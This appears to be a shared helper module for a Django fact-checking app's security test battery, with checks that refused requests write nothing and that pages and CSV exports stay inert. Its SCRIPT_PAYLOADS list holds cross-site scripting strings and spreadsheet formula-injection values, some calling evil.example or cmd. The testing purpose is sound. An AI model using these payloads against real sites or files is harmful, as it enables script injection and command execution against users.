"""What every test of the hostile-input battery shares: the hypothesis settings, the case counter,
the "nothing was written" fingerprint, the hostile values and the checks that a page is inert.

A case is one hostile request (or one short sequence of them) and its checks: one hypothesis
example or one parametrised test. Each test calls count_case() once per case; conftest.py checks
at the end of a run of the whole battery that there were at least MIN_CASES.
"""

from __future__ import annotations

import csv
import io
import itertools
import json
import re
from contextlib import contextmanager
from dataclasses import dataclass
from html import unescape
from html.parser import HTMLParser

from django.apps import apps
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.urls import reverse
from hypothesis import settings
from hypothesis import strategies as st

from tests.factories import claim_form_data

# Registered in conftest.py; a decorator, so that other test suites keep their own settings.
BATTERY = settings(parent=settings.get_profile("security-battery"))
MIN_CASES = 300


class _CaseCounter:
    def __init__(self) -> None:
        self.total = 0

    def __call__(self) -> None:
        self.total += 1


count_case = _CaseCounter()
# A number for each generated row, so that names that must be unique stay unique across examples.
serial = itertools.count(1)


# --- Nothing written ----------------------------------------------------------------------------------


def table_counts() -> dict[str, int]:
    """Row counts of every table of every installed app, audit event tables included.

    The audit triggers add an event row for every insert, update and delete of a desk row, so
    equal counts mean that no desk row was written, not only that none was added.
    """
    models = apps.get_models(include_auto_created=True)
    # Unmanaged models are views over other tables (pghistory's aggregate of all events).
    tables = sorted({model._meta.db_table for model in models if model._meta.managed and not model._meta.proxy})
    # Table names come from the models and are quoted; the only values are passed as parameters.
    count = "SELECT %s, count(*) FROM {}"
    query = " UNION ALL ".join(count.format(connection.ops.quote_name(table)) for table in tables)
    with connection.cursor() as cursor:
        cursor.execute(query, tables)
        return dict(cursor.fetchall())


@contextmanager
def nothing_written():
    before = table_counts()
    yield
    after = table_counts()
    changed = {table: (before[table], after[table]) for table in before if before[table] != after[table]}
    assert not changed, f"a refused request wrote rows (table: before, after): {changed}"


@contextmanager
def something_written():
    """The positive control: the same request, made properly, does write."""
    before = table_counts()
    yield
    assert table_counts() != before, "the request was expected to write and wrote nothing"


# --- Hostile values -----------------------------------------------------------------------------------

# Script and markup payloads. {m} is replaced by a marker unique to the example, so that a payload
# found on a page is the one just sent. None has a comma (tags are split on commas) or a run of
# spaces (names and claims are stored with single spaces); each has one of < > " ' &, which
# escaping changes, so finding one unchanged on a page means it was not escaped.
SCRIPT_PAYLOADS = [
    '<script>alert("{m}")</script>',
    '"><img src=x onerror=alert("{m}")>',
    "'><svg/onload=alert('{m}')>",
    '</textarea><script>alert("{m}")</script>',
    "</title><script>{m}</script>",
    '</script><script>alert("{m}")</script>',
    "\" autofocus onfocus=\"alert('{m}')",
    "' onmouseover='alert(`{m}`)",
    "<a href=\"javascript:alert('{m}')\">{m}</a>",
    '<iframe srcdoc="<script>{m}</script>">',
    "{{{{ {m} }}}}{{% debug %}}<b>{m}</b>",
    '<!--{m}--><math><mi xlink:href="data:x">',
    '<svg><animate onbegin=alert("{m}") attributeName=x dur=1s>',
    '<x hx-get="/admin/" hx-trigger="load">{m}</x>',
    "<div hx-on::load=\"alert('{m}')\">{m}</div>",
    '<style>@import "//evil.example/{m}"</style>',
    "&lt;script&gt;{m}&amp;",
    '\u202e<b>{m}</b>"',
    # Formula injection: a spreadsheet runs these when a CSV cell starts with = + - @.
    '=HYPERLINK("https://evil.example/{m}")',
    '+cmd|"/C calc"!A0 {m}',
    '-1+1|"{m}"',
    '@SUM(1+1)*cmd|"{m}"',
]
HTML_SPECIAL = set("<>\"'&")
# Written out here rather than imported from claims.reports, so the check does not shrink with it.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def markers():
    """A marker unique to each example: some letters hypothesis picks, and a serial number."""
    return st.text(alphabet="abcdefghijklmnopqrstuvwxyz", min_size=4, max_size=8).map(
        lambda letters: f"zq{letters}{next(serial)}"
    )


def script_payloads():
    return st.builds(lambda template, marker: template.format(m=marker), st.sampled_from(SCRIPT_PAYLOADS), markers())


def with_nul():
    """Text with a NUL byte somewhere: PostgreSQL refuses NUL in text, so it must never reach a query."""
    return st.builds(
        lambda before, after: f"{before}\x00{after}",
        st.text(st.characters(exclude_categories=["Cs"]), max_size=20),
        st.text(st.characters(exclude_categories=["Cs"]), max_size=20),
    )


MEGABYTE = 1_000_000
# Three kinds of 1 MB: one long word, many words (what overflows a search vector), and Cyrillic
# (two bytes a character, so twice the size in the database).
ONE_MB_VALUES = [
    "a" * MEGABYTE,
    " ".join(f"w{number}x" for number in range(MEGABYTE // 8))[:MEGABYTE],
    "я" * MEGABYTE,
]


def one_megabyte():
    return st.sampled_from(ONE_MB_VALUES)


# --- Pages are inert ----------------------------------------------------------------------------------

# Attributes a page may legitimately fill with text someone typed, and nowhere else (an <option>'s label:
# the claimant typeahead names the spelling it matched).
TEXT_ATTRIBUTES = {"value", "title", "aria-label", "placeholder", "href", "label"}
# Elements whose attributes never carry typed text (they load or run something).
ACTIVE_ELEMENTS = {"script", "iframe", "img", "object", "embed", "link", "meta", "base", "style", "svg", "math"}
SAFE_HREF = re.compile(r"^(https?://|/|\?|#)")
STRUCTURED_DATA = re.compile(r'<script type="application/ld\+json">.*?</script>', re.DOTALL)


class _PageStructure(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.scripts: list[tuple[dict, str]] = []
        # The page's text as a reader sees it, character references decoded: text and attribute values
        # (a form field shows what was typed in its value).
        self.texts: list[str] = []
        self._open_script: tuple[dict, list[str]] | None = None

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))
        self.texts.extend(value for _, value in attrs if value)
        if tag in ("script", "style"):
            self._open_script = (dict(attrs, element=tag), [])

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, attrs))
        self.texts.extend(value for _, value in attrs if value)

    def handle_data(self, data):
        if self._open_script is not None:
            self._open_script[1].append(data)
        else:
            self.texts.append(data)

    def handle_endtag(self, tag):
        if tag in ("script", "style") and self._open_script is not None:
            attrs, data = self._open_script
            self.scripts.append((attrs, "".join(data)))
            self._open_script = None


def assert_inert(html: str, *texts: str) -> None:
    """Typed `texts` are on the page as text only: escaped, in no tag or event handler of their own.

    Structured data (ClaimReview JSON-LD) is the one script allowed without a src; it must be JSON
    with every < escaped, so no text can close it.
    """
    without_structured_data = STRUCTURED_DATA.sub("", html)
    for text in texts:
        if HTML_SPECIAL & set(text):
            assert text not in without_structured_data, f"unescaped on the page: {text!r}"
    page = _PageStructure()
    page.feed(html)
    page.close()
    markers_in_texts = [marker for text in texts for marker in re.findall(r"zq[a-z]+\d+", text)]
    for tag, attrs in page.tags:
        for name, value in attrs:
            assert not name.startswith("on"), f"event handler attribute on <{tag}>: {name}={value!r}"
            assert not name.startswith("hx-on"), f"htmx handler on <{tag}>: {name}={value!r}"
            for marker in markers_in_texts:
                assert marker not in tag and marker not in name, f"typed text became markup: <{tag} {name}>"
                if value and marker in value:
                    assert tag not in ACTIVE_ELEMENTS, f"typed text inside <{tag} {name}={value!r}>"
                    assert name in TEXT_ATTRIBUTES, f"typed text in attribute {name} of <{tag}>: {value!r}"
                    if name == "href":
                        assert SAFE_HREF.match(value), f"typed text made a link that is not http(s): {value!r}"
    for attrs, body in page.scripts:
        if attrs["element"] == "style" or "src" in attrs:
            assert not any(marker in body for marker in markers_in_texts), "typed text inside a <style>/<script>"
            continue
        assert attrs.get("type") == "application/ld+json", f"an inline script on the page: {body[:80]!r}"
        assert "<" not in body, "structured data with an unescaped <"
        json.loads(body)


def assert_shown(html: str, text: str) -> None:
    """The reader sees exactly what was typed: the text is in the page's text, not in its markup.

    (Django's templates and Jinja2 escape quotes with different, equally valid, character references.)
    """
    page = _PageStructure()
    page.feed(html)
    page.close()
    assert any(text in shown for shown in page.texts), f"not shown (escaped) on the page: {text!r}"


def assert_spreadsheet_safe(text: str) -> list[list[str]]:
    """No CSV cell starts like a formula; returns the rows for further checks."""
    rows = list(csv.reader(io.StringIO(text)))
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), f"a spreadsheet would run this cell: {cell[:60]!r}"
    return rows


def spreadsheet_form(text: str) -> str:
    """How the desk writes a typed value into a CSV cell: formulas get a leading apostrophe."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def streamed(response) -> str:
    return b"".join(response.streaming_content).decode() if response.streaming else response.content.decode()


# What browsers trim from both ends of an href: C0 controls and the space.
C0_AND_SPACE = "".join(chr(code) for code in range(0x21))


def browser_reading(url: str) -> str:
    """What a browser makes of an href: entities decoded, tabs and newlines dropped, ends trimmed."""
    return re.sub(r"[\t\n\r]", "", unescape(url)).strip(C0_AND_SPACE).lower()


# --- What the desk lets people do -----------------------------------------------------------------


@dataclass(frozen=True)
class Action:
    """One write the desk offers: who may do it, and a request that does it."""

    actor: str  # an attribute of the Desk fixture
    url: str
    data: dict


def claimreview_file(name: str = "reviews.json", **review) -> SimpleUploadedFile:
    item = {
        "@context": "https://schema.org",
        "@type": "ClaimReview",
        "claimReviewed": "Air defences shot down all missiles over Kyiv.",
        "url": "https://factcheck.example.org/reviews/1",
        "name": "Not all missiles were shot down",
        "itemReviewed": {"@type": "Claim", "author": {"@type": "Person", "name": "A spokesman"}},
        "reviewRating": {"@type": "Rating", "ratingValue": 1, "worstRating": 1, "bestRating": 5},
        **review,
    }
    return SimpleUploadedFile(name, json.dumps(item).encode(), content_type="application/ld+json")


def desk_actions(battery_desk) -> dict[str, Action]:
    return {
        "log a claim": Action("fact_checker", reverse("claims:create"), claim_form_data(text="Shelling hit Kharkiv.")),
        "edit a claim": Action(
            "fact_checker",
            reverse("claims:edit", args=[battery_desk.open_claim.pk]),
            claim_form_data(text="Shelling hit Vovchansk.", version=battery_desk.open_claim.version),
        ),
        "add evidence": Action(
            "fact_checker",
            reverse("claims:evidence_add", args=[battery_desk.open_claim.pk]),
            {"url": "https://www.reuters.com/world/europe/1", "kind": "article", "stance": "contradicts"},
        ),
        "remove evidence": Action(
            "fact_checker",
            reverse("claims:evidence_remove", args=[battery_desk.claim.pk, battery_desk.evidence.pk]),
            {},
        ),
        "propose a status": Action(
            "fact_checker",
            reverse("claims:propose", args=[battery_desk.open_claim.pk]),
            {"status": "unverifiable", "rationale": "No one can reach the village."},
        ),
        "take a claim": Action(
            "fact_checker",
            reverse("claims:assign"),
            {"claims": battery_desk.open_claim.pk, "assignee": battery_desk.fact_checker.username},
        ),
        "assign a claim": Action(
            "editor",
            reverse("claims:assign"),
            {"claims": battery_desk.open_claim.pk, "assignee": battery_desk.second_fact_checker.username},
        ),
        "assign several claims": Action(
            "editor",
            reverse("claims:assign"),
            {
                "claims": [battery_desk.open_claim.pk, battery_desk.claim.pk],
                "assignee": battery_desk.fact_checker.username,
            },
        ),
        "unassign a claim": Action(
            "editor", reverse("claims:assign"), {"claims": battery_desk.taken_claim.pk, "assignee": ""}
        ),
        "approve": Action("editor", reverse("claims:approve", args=[battery_desk.review.pk]), {"note": "Agreed."}),
        "return": Action(
            "editor", reverse("claims:return", args=[battery_desk.review.pk]), {"note": "Find a second source."}
        ),
        "withdraw": Action("fact_checker", reverse("claims:withdraw", args=[battery_desk.review.pk]), {}),
        "correct a claimant": Action(
            "editor",
            reverse("claims:claimant_update", args=[battery_desk.claim.claimant_id]),
            {"kind": "military", "affiliation": battery_desk.independent.pk, "description": "The ministry."},
        ),
        "rename an outlet": Action(
            "editor",
            reverse("claims:outlet_update", args=[battery_desk.tass.pk]),
            {"name": "TASS agency", "affiliation": battery_desk.russian_government.pk},
        ),
        "add an affiliation": Action(
            "editor", reverse("claims:affiliation_create"), {"name": "Ukrainian government", "description": "Kyiv."}
        ),
        "rename an affiliation": Action(
            "editor",
            reverse("claims:affiliation_update", args=[battery_desk.independent.pk]),
            {"name": "Independent media", "description": "No side."},
        ),
        "import reviews": Action("editor", reverse("claims:import"), {"file": claimreview_file()}),
        "merge a duplicate": Action(
            "editor",
            reverse("claims:merge", args=[battery_desk.open_claim.pk]),
            {"into": battery_desk.claim.pk, "reason": "The same claim, logged twice."},
        ),
        "prepare a report file": Action(
            "fact_checker", reverse("claims:report_file_prepare", args=["2024-W20"]), {"format": "json"}
        ),
        "capture a source": Action(
            "fact_checker", reverse("captures:source_captures", args=[battery_desk.evidence.source_id]), {}
        ),
    }


EDITOR_ONLY_ACTIONS = [
    "assign a claim",
    "assign several claims",
    "unassign a claim",
    "approve",
    "return",
    "correct a claimant",
    "rename an outlet",
    "add an affiliation",
    "rename an affiliation",
    "import reviews",
    "merge a duplicate",
]
ACTIONS = [
    "log a claim",
    "edit a claim",
    "add evidence",
    "remove evidence",
    "propose a status",
    "take a claim",
    "withdraw",
    "prepare a report file",
    "capture a source",
    *EDITOR_ONLY_ACTIONS,
]
